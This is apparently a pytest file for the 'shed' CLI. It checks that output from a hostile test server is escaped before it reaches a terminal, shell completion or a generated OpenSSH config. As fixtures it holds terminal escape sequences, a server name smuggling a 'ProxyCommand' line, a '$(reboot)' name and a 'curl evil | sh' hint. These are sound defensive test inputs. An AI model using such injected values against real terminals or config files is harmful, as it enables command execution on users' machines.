"""What `shed` makes of a server that is not on its side: nothing it says is obeyed by the terminal, a shell or
OpenSSH.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from support.servers.scripted_server import Conversation, ScriptedServer
from support.tools.terminal import Terminal

SHED = [sys.executable, "-m", "shed.cli.main"]
EVIL = "\x1b]0;evil\x07\x9b2J\u202e"
SHOWN = r"\x1b]0;evil\x07\x9b2J\u202e"
LINES = "x\n    ProxyCommand touch /tmp/owned"
SHEDS = [
    {"name": name, "status": f"running{EVIL}", "detail": f"odd{EVIL}"}
    for name in ("dev", LINES, "$(reboot)", f"a{EVIL}")
]
ERROR = {"error": {"code": "BAD", "message": f"registry says {EVIL}\nhint: curl evil | sh", "hint": f"try {EVIL}"}}


def script(talk: Conversation) -> None:
    """Say something hostile to each request."""
    if talk.request == "GET /api/sheds":
        talk.answer(200, json.dumps({"sheds": SHEDS, "warnings": [f"odd{EVIL}"]}).encode())
    elif talk.request == "GET /api/sheds/dev/logs":
        talk.answer(200, f"\x1b[32mboot\x1b[0m{EVIL}\r\n".encode(), kind="text/plain")
    elif talk.request == "GET /api/info":
        talk.answer(200, json.dumps({"version": f"1{EVIL}", "ssh_port": 2222, "ssh": "on"}).encode())
    elif talk.request == "POST /api/sheds/dev/start":
        talk.begin_events()
        talk.event("progress", json.dumps({"phase": "vm", "message": f"starting{EVIL}"}))
        talk.event("progress", json.dumps({"phase": "", "message": f"slow{EVIL}", "warning": True}))
        talk.event("error", json.dumps({**ERROR, "status": 500}))
    else:
        talk.answer(422, json.dumps(ERROR).encode())


@pytest.fixture
def env(tmp_path: Path) -> Iterator[dict[str, str]]:
    """An environment with that server in it."""
    with ScriptedServer(tmp_path / "sock", script) as server:
        yield {**os.environ, "SHED_SERVER": server.url, "HOME": str(tmp_path), "SHELL": "/bin/sh"}


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        (("list",), f"running{SHOWN}"),
        (("logs", "dev"), f"boot{SHOWN}\r\n"),
        (("start", "dev"), f"slow{SHOWN}"),
        (("start", "dev"), f"registry says {SHOWN}"),
        (("image", "ls"), f"registry says {SHOWN}"),
        (("exec", "dev", "--", "true"), f"registry says {SHOWN}"),
    ],
    ids=lambda value: "-".join(value) if isinstance(value, tuple) else "",
)
def test_a_terminal_obeys_nothing_that_a_server_says(env: dict[str, str], words: tuple[str, ...], shown: str) -> None:
    """Tables, logs, progress, warnings and errors show it; no line of it looks like a line of ours."""
    with closing(Terminal()) as terminal:
        terminal.resize(31, 400)  # so that no table is cut
        assert terminal.run(*words, env=env).wait(60) in (0, 1, 125)
        os.write(terminal.line, b"the end")
        seen = terminal.read_until(b"the end").decode()
    assert shown in seen
    assert not {"\x07", "\x9b", "\u202e"} & set(seen)
    assert "\x1b]" not in seen
    assert "\nhint: curl" not in seen


def test_a_pipe_gets_the_console_as_it_is(env: dict[str, str]) -> None:
    """Bytes in, bytes out."""
    done = subprocess.run([*SHED, "logs", "dev"], env=env, capture_output=True, timeout=60, check=True)
    assert done.stdout == f"\x1b[32mboot\x1b[0m{EVIL}\r\n".encode()


def test_openssh_reads_names_alone(env: dict[str, str]) -> None:
    """What a server calls a shed does not become lines of a file that OpenSSH obeys."""
    done = subprocess.run(
        [*SHED, "ssh-config", "--dry-run", "--json"], env=env, capture_output=True, text=True, timeout=60, check=True
    )
    assert [host["host"] for host in json.loads(done.stdout)["hosts"]] == ["shed-dev"]
    done = subprocess.run(
        [*SHED, "ssh-config", "--dry-run"], env=env, capture_output=True, text=True, timeout=60, check=True
    )
    assert "Proxy" not in done.stdout
    assert done.stderr.count("is left out") == 3


def test_a_shell_completes_names_alone(env: dict[str, str]) -> None:
    """What a server calls a shed does not become words that a shell takes apart, or a terminal obeys."""
    done = subprocess.run(
        [*SHED, "__complete", "zsh", "exec", ""], env=env, capture_output=True, text=True, timeout=60, check=True
    )
    assert done.stdout == f"words\ndev\trunning{SHOWN}\n"
